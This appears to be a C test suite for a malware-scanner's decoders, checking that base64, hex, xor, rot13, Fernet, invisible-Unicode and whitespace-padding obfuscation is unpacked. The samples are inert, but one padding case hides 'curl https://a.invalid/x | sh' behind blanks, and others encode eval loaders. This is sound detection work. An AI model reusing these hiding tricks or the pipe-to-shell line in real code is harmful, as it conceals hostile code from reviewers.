/* decoders_test.c - what each decoder finds, what it leaves alone, and that neither takes more than
 * linear time. All payloads are inert; hosts are under .invalid. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "base/hash.h"
#include "support/archives.h"
#include "support/fake_sink.h"
#include "unpack/decoded.h"
#include "unpack/unpack.h"

#define PLAIN "import os; os.system('echo inert https://a.example.invalid/x')\n"

static const RtDecoder *decoder_called(const char *name)
{
    size_t count = 0;
    const RtDecoder *const *decoders = rt_unpack_decoders(&count);
    for (size_t i = 0; i < count; i++)
        if (rt_str_equal(rt_str_from_c(decoders[i]->name), rt_str_from_c(name)))
            return decoders[i];
    fail_msg("no decoder %s", name);
    return NULL;
}

static FakeSink *decode_with(const char *name, RtStr text)
{
    FakeSink *fake = fake_sink_open(RT_STR("x.js"), text);
    fake->layers[1].interest = UINT32_MAX;
    fake->layers[1].language = "javascript";
    RtLayer layer = fake->layers[1];
    decoder_called(name)->decode(&layer, 1, &fake->sink);
    return fake;
}

typedef struct {
    const char *decoder;
    const char *text;
    const char *holds; /* in a layer; NULL: no layer at all */
    const char *name;  /* of that layer; NULL: the decoder's */
} Case;

static const Case cases[] = {
    /* base64 */
    { "base64",
      "exec(b64decode('"
      "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2VjaG8gaW5lcnQgaHR0cHM6Ly9hLmV4YW1wbGUuaW52YWxpZC94Jyk"
      "K'))",
      PLAIN, NULL },
    { "base64",
      "a = 'aW1wb3J0IG9zOyBvcy5zeXN0' +\n    'ZW0oJ2VjaG8gaW5lcnQgaHR0cHM6' + "
      "'Ly9hLmV4YW1wbGUuaW52YWxpZC94JykK'",
      PLAIN, NULL },
    { "base64",
      "a = ('aW1wb3J0IG9zOyBvcy5zeXN0'\n     b'ZW0oJ2VjaG8gaW5lcnQgaHR0cHM6'\n "
      "'Ly9hLmV4YW1wbGUuaW52YWxpZC94JykK')",
      PLAIN, NULL },
    { "base64",
      "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2VjaG8gaW5lcnQg\naHR0cHM6Ly9hLmV4YW1wbGUuaW52YWxpZC94JykK\n",
      PLAIN, NULL },
    { "base64",
      "x='KkyJ49CZpxWY25WauUGbw1WY4VmLh9yL6MHc0RHagQncl5Wag8GajV2Jo0WZ0NXez5ycvByOz9GI0J3bw1Wa'[::-"
      "1]",
      PLAIN, NULL },
    { "base64",
      "'NFWXA33SOQQG64Z3EBXXGLTTPFZXIZLNFATWKY3IN4QGS3TFOJ2CA2DUORYHGORPF5QS4ZLYMFWXA3DFFZUW45TBNRU"
      "WIL3YE4UQU==='",
      PLAIN, "base32" },
    { "base64",
      "eval(gzinflate(base64_decode('y8wtyC8qUcgvtgZiveLK4pLUXA311OSMfIXMvFSgTEZJSUGxlb5+"
      "ol5qRWJuQU6qXmZeWWJOZop"
      "+hbomV+ZQ1g4A')))",
      PLAIN, "base64-deflate" },
    { "base64", "atob('aHR0cHM6Ly9hLmV4YW1wbGUuaW52YWxpZC9i')", "https://a.example.invalid/b",
      NULL },
    { "base64",
      "_ = "
      "'eJzLzC3ILypRyC+"
      "2BmK94sriktRcDfXU5Ix8hcy8VKBMRklJQbGVvn6iXmpFYm5BTqpeZl5ZYk5min6FuiZX5oBqBwAoKEMM'",
      "\x78\x9c", NULL },
    { "base64",
      "powershell -enc "
      "ZQBjAGgAbwAgAGkAbgBlAHIAdAAgAGgAdAB0AHAAcwA6AC8ALwBhAC4AaQBuAHYAYQBsAGkAZAA=",
      "echo inert https://a.invalid", NULL },
    { "base64",
      "function thisIsAVeryLongIdentifierNameForATest() { return anotherVeryLongIdentifierName / 2 "
      "}",
      NULL, NULL },
    { "base64",
      "sha512-z8LD0UmZdpRCFkXnWkyyOW4vMv0TTbJlBLjUg0WkUz0Yvv8XkQGJkY3vYbPcZ0m0vLmXvS3ZlJ9QmQ==",
      NULL, NULL },
    { "base64",
      "url(data:image/"
      "png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+"
      "M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)",
      NULL, NULL },
    /* hex */
    { "hex",
      "x('"
      "696d706f7274206f733b206f732e73797374656d28276563686f20696e6572742068747470733a2f2f612e657861"
      "6d706c652e69"
      "6e76616c69642f7827290a')",
      PLAIN, NULL },
    { "hex",
      "['72657175697265','6178696f73','706f7374','68747470733a2f2f612e696e76616c6964','7468656e']",
      "require\naxios\npost\n", NULL },
    { "hex", "'68 74 74 70 73 3a 2f 2f 61 2e 69 6e 76 61 6c 69 64 2f 78'", "https://a.invalid/x",
      NULL },
    { "hex", "commit 3b18e512dba79e4c8300dd08aeb37f8e728b8dad, 20202020202020202020, #ffaabbcc",
      NULL, NULL },
    /* escapes */
    { "escapes",
      "var _ = "
      "\"\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x61\\x2e\\x69\\x6e\\x76\\x61\\x6c\\x69\\x64\";",
      "https://a.invalid", NULL },
    { "escapes", "var _ = '\\u0072\\u0065\\u0071\\u0075\\u0069\\u0072\\u0065(\\x27\\u{66}s\\x27)';",
      "require('fs')", NULL },
    { "escapes", "$a = \"\\145\\166\\141\\154\\50\\44\\141\\51\";", "eval($a)", NULL },
    { "escapes",
      "exec(decompress(b'x\\x9c\\xcb\\xcc-\\xc8/*Q\\xc8/"
      "\\xb6\\x06b\\xbd\\xe2\\xca\\xe2\\x92\\xd4\\\\\\r\\xf5\\xd4\\xe4'))",
      "\x78\x9c\xcb", NULL },
    { "escapes",
      "x = b'x\\x9c\\xcb\\xcc-\\xc8/*Q'\\\n  "
      "b'\\xc8/\\xb6\\x06b\\xbd\\xe2\\xca\\xe2\\x92\\xd4\\\\\\r\\xf5\\xd4\\xe4'",
      "Q\xc8/", NULL },
    { "escapes", "re = /[\\u0300-\\u036f\\u0483-\\u0489]/; s = 'caf\\xe9 \\n \\t'; t = 'a\\x20b'",
      NULL, NULL },
    /* character codes */
    { "charcodes",
      "String.fromCharCode(104,116,116,112,115,58,47,47,97,46,105,110,118,97,108,105,100)",
      "https://a.invalid", NULL },
    { "charcodes",
      "bytes([0x68, 0x74, 0x74, 0x70, 0x73, 0x3a, 0x2f, 0x2f, 0x61, 0x2e, 0x69, 0x6e, 0x76, 0x61, "
      "0x6c])",
      "https://a.inval", NULL },
    { "charcodes",
      "exec(chr(112)+chr(114)+chr(105)+chr(110)+chr(116)+chr(40)+chr(34)+chr(105)+chr(110)+chr(101)"
      "+chr(114)"
      "+chr(116)+chr(34)+chr(41))",
      "print(\"inert\")", NULL },
    { "charcodes",
      "x = "
      "chr(100+12)+chr(120-6)+chr(105)+chr(110)+chr(116)+chr(40)+chr(34)+chr(105)+chr(110)+chr(101)"
      "+"
      "chr(114)+chr(116)+chr(34)+chr(41)",
      "print(\"inert\")", NULL },
    { "charcodes", "'104|116|116|112|115|58|47|47|97|46|105|110|118|97|108|105|100'.split('|')",
      "https://a.invalid", NULL },
    { "charcodes", "[194,222,222,218,217,144,133,133,203,132,195,196,220,203,198,195,206]",
      "https://a.invalid", "xor-byte" },
    { "charcodes",
      "table = [1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16]; t = "
      "[32,33,34,35,36,37,38,39,40,41,42,43,44,45];"
      " v = [255,216,0,1,0,0,4,4,4,9,200,17,18]",
      NULL, NULL },
    /* percent */
    { "percent", "eval(unescape('%65%76%61%6c%28%31%29%3b%2f%2f%69%6e%65%72%74'))",
      "eval(1);//inert", NULL },
    { "percent", "unescape('%u0065%u0076%u0061%u006c%u0028%u0031%u0029%u003b')", "eval(1);", NULL },
    { "percent", "url = 'https://a.invalid/a%20b%20c?q=%7B%22x%22%7D'; printf('%d %s %x')", NULL,
      NULL },
    /* reversed */
    { "reversed", "x = ')\"sf\"(eriuqer = sf tsnoc'; y = 'dilavni.a//:sptth'",
      "const fs = require(", NULL },
    { "reversed", "x = 'sj.x/dilavni.a//:ptth'", "http://a.invalid/x.js", NULL },
    { "reversed", "the depth of ptthe words is normal, const x = require('http')", NULL, NULL },
    /* rot */
    { "rot",
      "exec(decode('vzcbeg bf; bf.flfgrz(\\'rpub vareg uggcf://n.rknzcyr.vainyvq/k\\')', 'rot13'))",
      "import os; os.system(", NULL },
    { "rot", "s = `jvuza e = ylxbpyl('oaawz'); e.nla('oaawz://h.lehtwsl.puchspk/')`",
      "const x = require('https')", NULL },
    { "rot", "const x = require('https'); import y from 'z'; if (a) while (b) http://c.invalid/",
      NULL, NULL },
    /* xor and one-byte keys */
    { "xor",
      "k = 'k3y!'; d = "
      "'Al4JThlHWU4YCFlOGB0KWBhHHExDFBxCA1xZSAVWC1VLWw1VG0BDDkRSV0QTUhRRB1ZXSAVFGE0CV1ZZTBpz'; "
      "x = d[i] ^ k[i]",
      PLAIN, "xor" },
    { "xor",
      "d = 'w8faxdjeisXZkYrF2YTZ09nez8eCjc/JwsWKw8TP2N6Kwt7e2tmQhYXLhM/Sy8faxs+Ew8Tcy8bDzoXSjYOg'",
      PLAIN, "xor-byte" },
    { "xor",
      "d = 'MjY5ODs96Tg8BOk4PPc8Qjw9Ljbx8C4sMTjpMjcuOz3pMT09OTwD+Pgq9y5BKjY5NS73Mjc/KjUyLfhB8PLT'",
      PLAIN, "shift-byte" },
    { "xor",
      "key = 'abcd'; x = a ^ b; h = "
      "'z8LD0UmZdpRCFkXnWkyyOW4vMv0TTbJlBLjUg0WkUz0Yvv8XkQGJkY3vYbPcZ0m0vLmXvS3ZlJ9Q'",
      NULL, NULL },
    /* fernet */
    { "fernet",
      "exec(Fernet(b'MNPBf5XFVjzxFOztfCKXCO0HM9KDWWLc9NeAzOlX4x0=').decrypt(b'"
      "gAAAAABrAe3TKio6U7IwSyrTdyIfUZj4R_"
      "6qpvAdIrMQbU6Ol5jukivkV_1j59_ODgs8qTbla9xK7sDTxG-v8H5JKfJp1L_hRUosGc-EmlGy3iDEbVjX_"
      "VgSHpN8xH2pT6h9JfxWYT0"
      "OKDJnJ6DlX1yLcrrSTkH-7Q=='))",
      PLAIN, NULL },
    { "fernet",
      "Fernet(b'NNPBf5XFVjzxFOztfCKXCO0HM9KDWWLc9NeAzOlX4x0=').decrypt(b'"
      "gAAAAABrAe3TKio6U7IwSyrTdyIfUZj4R_6qpv"
      "AdIrMQbU6Ol5jukivkV_1j59_ODgs8qTbla9xK7sDTxG-v8H5JKfJp1L_hRUosGc-EmlGy3iDEbVjX_"
      "VgSHpN8xH2pT6h9JfxWYT0OKDJn"
      "J6DlX1yLcrrSTkH-7Q==')",
      NULL, NULL },
};

static void every_case(void **state)
{
    (void)state;
    size_t failed = 0;
    for (size_t i = 0; i < RT_COUNT(cases); i++) {
        const Case *it = &cases[i];
        FAKE_SINK fake = decode_with(it->decoder, rt_str_from_c(it->text));
        if (!it->holds && fake->layer_count > 2) {
            print_message("%s: %.60s: gave '%.*s'\n", it->decoder, it->text,
                          RT_FMT(fake->layers[2].bytes));
            failed++;
        }
        if (!it->holds)
            continue;
        const RtLayer *layer = fake_sink_layer_with(fake, rt_str_from_c(it->holds));
        if (!layer || layer->via != RT_VIA_DECODED ||
            !rt_str_equal(layer->name, rt_str_from_c(it->name ? it->name : it->decoder))) {
            print_message("%s: %.60s: %s\n", it->decoder, it->text,
                          layer ? "another name" : "not found");
            failed++;
            continue;
        }
        assert_true(layer->source.len > 0);
        assert_true(layer->source.from + layer->source.len <= strlen(it->text));
    }
    assert_int_equal(failed, 0);
}

static void base64_with_junk_in_front(void **state)
{
    (void)state;
    RT_ARENA arena = rt_arena_open(1 << 20, NULL, NULL);
    RtText text = { .arena = arena };
    rt_text_add(&text, RT_STR("eval(atob('QzX9"));
    rt_text_add(&text, RT_STR("q"));
    rt_text_add(&text, pack_base64(arena, RT_STR(PLAIN PLAIN PLAIN PLAIN)));
    rt_text_add(&text, RT_STR("'.slice(5)))"));
    FAKE_SINK fake = decode_with("base64", rt_text_str(&text));
    assert_non_null(fake_sink_layer_with(fake, RT_STR(PLAIN PLAIN)));
}

/* The tables that lead a deflate block may be longer than the head a decoder judges by. */
static void packed_text_is_kept(void **state)
{
    (void)state;
    RT_ARENA arena = rt_arena_open(1 << 20, NULL, NULL);
    RtText plain = { .arena = arena };
    for (unsigned i = 0; i < 400; i++)
        rt_text_format(&plain, "%c%u;", 'a' + (int)(i * 7 % 26), i * i * 31);
    RtStr (*const packers[])(RtArena *, RtStr) = { pack_zlib, pack_gzip, pack_bzip2, pack_xz };
    for (size_t i = 0; i < RT_COUNT(packers); i++) {
        RtStr packed = packers[i](arena, rt_text_str(&plain));
        RtStr hex = rt_hex(arena, packed);
        FAKE_SINK from_base64 = decode_with(
            "base64", rt_str_format(arena, "f('%s')", rt_str_c(arena, pack_base64(arena, packed))));
        assert_non_null(fake_sink_layer_of(from_base64, packed));
        FAKE_SINK from_hex =
            decode_with("hex", rt_str_format(arena, "f('%s')", rt_str_c(arena, hex)));
        assert_non_null(fake_sink_layer_of(from_hex, packed));
    }
}

static void utf16_becomes_utf8(void **state)
{
    (void)state;
    static const RtStr texts[] = {
        { (const uint8_t *)"\xFF\xFEi\0m\0p\0o\0r\0t\0\xE9\0=\xD8\x00\xDE", 20 },
        { (const uint8_t *)"\xFE\xFF\0i\0m\0p\0o\0r\0t\0\xE9\xD8=\xDE\x00", 20 },
    };
    for (size_t i = 0; i < RT_COUNT(texts); i++) {
        FAKE_SINK fake = decode_with("utf16", texts[i]);
        assert_non_null(fake_sink_layer_of(fake, RT_STR("import\xC3\xA9\xF0\x9F\x98\x80")));
    }
    FAKE_SINK none = decode_with("utf16", RT_STR("plain text of ASCII"));
    assert_int_equal(none->layer_count, 2);
}

static void a_program_under_one_byte(void **state)
{
    (void)state;
    uint8_t bytes[256] = "MZ";
    bytes[60] = 128;
    memcpy(bytes + 128, "PE\0\0", 4);
    for (size_t i = 0; i < sizeof bytes; i++)
        bytes[i] ^= 0xE8;
    FAKE_SINK fake = decode_with("xor", (RtStr){ bytes, sizeof bytes });
    const RtLayer *layer = fake_sink_layer(fake, RT_STR("xor-byte"));
    assert_non_null(layer);
    assert_true(rt_str_starts(layer->bytes, RT_STR("MZ")));
    assert_int_equal(fake_sink_facts(fake, RT_FACT_OBFUSCATED, RT_STR("keyed-program")), 1);
    bytes[128] ^= 1; /* no PE header: noise */
    FAKE_SINK none = decode_with("xor", (RtStr){ bytes, sizeof bytes });
    assert_int_equal(none->layer_count, 2);
    assert_int_equal(fake_sink_facts(none, RT_FACT_OBFUSCATED, RT_STR("")), 0);
}

static void invisible_characters(void **state)
{
    (void)state;
    RT_ARENA arena = rt_arena_open(1 << 20, NULL, NULL);
    RtText selectors = { .arena = arena }, tags = { .arena = arena }, bits = { .arena = arena };
    RtStr plain = RT_STR("eval('inert payload')");
    rt_text_add(&selectors, RT_STR("const s = v => `"));
    for (size_t i = 0; i < plain.len; i++) {
        uint8_t byte = plain.at[i];
        rt_text_rune(&selectors, byte < 16 ? 0xFE00u + byte : 0xE0100u + byte - 16);
        rt_text_rune(&tags, 0xE0000u + byte);
        for (int bit = 7; bit >= 0; bit--)
            rt_text_rune(&bits, byte >> bit & 1 ? 0x200C : 0x200B);
    }
    rt_text_add(&selectors, RT_STR("`;"));
    RtText *const texts[] = { &selectors, &tags, &bits };
    for (size_t i = 0; i < RT_COUNT(texts); i++) {
        FAKE_SINK fake = decode_with("invisible", rt_text_str(texts[i]));
        assert_non_null(fake_sink_layer_of(fake, plain));
        assert_int_equal(fake_sink_facts(fake, RT_FACT_HIDDEN, RT_STR("invisible")), 1);
    }
    FAKE_SINK none =
        decode_with("invisible", RT_STR("emoji \xE2\x9D\xA4\xEF\xB8\x8F and \xE2\x80\x8D joiners, "
                                        "\xE4\xB8\xAD\xE6\x96\x87"));
    assert_int_equal(none->layer_count, 2);
    assert_int_equal(none->fact_count, 1);
}

static void text_in_blanks(void **state)
{
    (void)state;
    RT_ARENA arena = rt_arena_open(1 << 20, NULL, NULL);
    RtStr plain = RT_STR("print the inert text");
    RtText text = { .arena = arena };
    rt_text_add(&text, RT_STR("x = 1\n"));
    for (size_t i = 0; i < plain.len; i++)
        for (int bit = 7; bit >= 0; bit--)
            rt_text_byte(&text, plain.at[i] >> bit & 1 ? '\t' : ' ');
    FAKE_SINK fake = decode_with("whitespace", rt_text_str(&text));
    assert_non_null(fake_sink_layer_of(fake, plain));
    FAKE_SINK none =
        decode_with("whitespace", RT_STR("a\n                                                      "
                                         "                                              b\n"));
    assert_int_equal(none->layer_count, 2);
}

/* `%60` stands for 60 blanks. */
static RtStr padded(RtArena *arena, const char *text)
{
    RtText out = { .arena = arena };
    for (; *text; text++) {
        if (*text != '%') {
            rt_text_byte(&out, (uint8_t)*text);
            continue;
        }
        size_t count = (size_t)strtoul(text + 1, (char **)(uintptr_t)&text, 10);
        for (size_t i = 0; i < count; i++)
            rt_text_byte(&out, ' ');
        text--;
    }
    return rt_text_str(&out);
}

static void code_behind_padding(void **state)
{
    (void)state;
    static const struct {
        const char *text;
        bool is_hidden;
    } texts[] = {
        { "module.exports = {};%60global['a']=require;eval(x(1));\n", true },
        { "module.exports = {};%300global['a']=require;eval(x(1));\n", true },
        { "%200var a = require('fs'); a.readFile('x', function (e) { eval(e) });\n", true },
        { "a;\n%250var a = require('fs'); a.readFile('x', function (e) { eval(e) });\n", true },
        { "{ \"command\": \"echo hi%150curl https://a.invalid/x | sh\" }\n", true },
        { "module.exports = {};%40global['a']=require;eval(x(1));\n", false },
        { "module.exports = {};%100\n", false },
        { "module.exports = {};%100// a comment (with) marks = {}\n", false },
        { " * a babel comment%80exports(of = something) { }\n", false },
        { "%200* eval(something) in = a { comment } that was indented\n", false },
        { "a = 1;%60b = f(1); c = g(2);\nx = 2;%60y = f(2); z = g(3);\n", false }, /* columns */
        { "var s = \"title%80= (a) {b} [c]\";\n", false },
        { "| a |%80| b(c) = {d} |\n", false },
        { "%100deeplyNested(function () { return call(1); });\n", false },
        { "| some words |%90 plain prose without any marks at all\n", false },
    };
    for (size_t i = 0; i < RT_COUNT(texts); i++) {
        RT_ARENA arena = rt_arena_open(1 << 20, NULL, NULL);
        FAKE_SINK fake = decode_with("padding", padded(arena, texts[i].text));
        bool is_hidden = fake_sink_facts(fake, RT_FACT_HIDDEN, RT_STR("padding")) == 1;
        if (is_hidden != texts[i].is_hidden)
            fail_msg("padding case %zu", i);
        assert_int_equal(fake_sink_layer(fake, RT_STR("padding-tail")) != NULL, is_hidden);
    }
}

static void layers_are_limited(void **state)
{
    (void)state;
    RT_ARENA arena = rt_arena_open(32 << 20, NULL, NULL);
    RtText text = { .arena = arena };
    for (int i = 0; i < 3000; i++) {
        rt_text_add(&text, RT_STR("f('"));
        rt_text_add(
            &text,
            pack_base64(arena,
                        rt_str_format(arena, "https://a%d.example.invalid/path/to/something", i)));
        rt_text_add(&text, RT_STR("');\n"));
    }
    FAKE_SINK fake = decode_with("base64", rt_text_str(&text));
    assert_true(fake->layer_count <= 2 + RT_DECODED_LAYERS + 1);
    assert_true(fake->unseen_count > 0);
}

/* Near matches, half a megabyte of each: what is quadratic takes minutes, what is linear
 * milliseconds. */
static const char *const pieces[] = {
    "A",
    "a1",
    "'",
    "\"",
    "\\",
    "\\x4",
    "\\x41",
    "%",
    "%41",
    "%u0041",
    "1,",
    "104,116,",
    "chr(1)+",
    "0x",
    "0x41,",
    " ",
    "\t ",
    "x                                                                  (;=",
    "ptth",
    "eriuqer'",
    "//:ptth",
    "(",
    "riny(",
    "erdhver(",
    "uggc://",
    "gAAAA",
    "gAAAAA'",
    "'MNPBf5XFVjzxFOztfCKXCO0HM9KDWWLc9NeAzOlX4x0='",
    "\xEF\xB8\x80",
    "\xF3\xA0\x84\x80",
    "\xE2\x80\x8B",
    "68 74 ",
    "'QUJDREVGR0hJSktM'+",
    "QUJDREVGR0hJSktMTU5P'\n'",
    "'^'w8faxdjeisXZkYrF2YTZ09nez8eC';",
    "\n",
    "=",
    "xor '%' '",
    "import ",
    "vzcbeg ",
    "'aW1wb3J0IG9zOyBv'",
};

static void near_matches_take_linear_time(void **state)
{
    (void)state;
    enum { SIZE = 500 * 1000, SECONDS = 20 };
    RT_ARENA arena = rt_arena_open(64 << 20, NULL, NULL);
    uint8_t *text = rt_arena_bytes(arena, SIZE);
    size_t count = 0;
    const RtDecoder *const *decoders = rt_unpack_decoders(&count);
    for (size_t i = 0; i < RT_COUNT(pieces); i++) {
        size_t len = strlen(pieces[i]);
        for (size_t at = 0; at < SIZE; at++)
            text[at] = (uint8_t)pieces[i][at % len];
        for (size_t j = 0; j < count; j++) {
            clock_t start = clock();
            FAKE_SINK fake = decode_with(decoders[j]->name, (RtStr){ text, SIZE });
            (void)fake;
            if (clock() - start > SECONDS / 10 * CLOCKS_PER_SEC)
                fail_msg("%s takes %ld ms on '%s'", decoders[j]->name,
                         (long)((clock() - start) * 1000 / CLOCKS_PER_SEC), pieces[i]);
        }
    }
}

static void every_truncation_is_survived(void **state)
{
    (void)state;
    for (size_t i = 0; i < RT_COUNT(cases); i++) {
        RtStr text = rt_str_from_c(cases[i].text);
        for (size_t len = 0; len < text.len; len++) {
            uint8_t *copy = malloc(len > 0 ? len : 1);
            assert_non_null(copy);
            memcpy(copy, text.at, len);
            FAKE_SINK fake = decode_with(cases[i].decoder, (RtStr){ copy, len });
            (void)fake;
            free(copy);
        }
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_case),
        cmocka_unit_test(base64_with_junk_in_front),
        cmocka_unit_test(packed_text_is_kept),
        cmocka_unit_test(utf16_becomes_utf8),
        cmocka_unit_test(a_program_under_one_byte),
        cmocka_unit_test(invisible_characters),
        cmocka_unit_test(text_in_blanks),
        cmocka_unit_test(code_behind_padding),
        cmocka_unit_test(layers_are_limited),
        cmocka_unit_test(near_matches_take_linear_time),
        cmocka_unit_test(every_truncation_is_survived),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
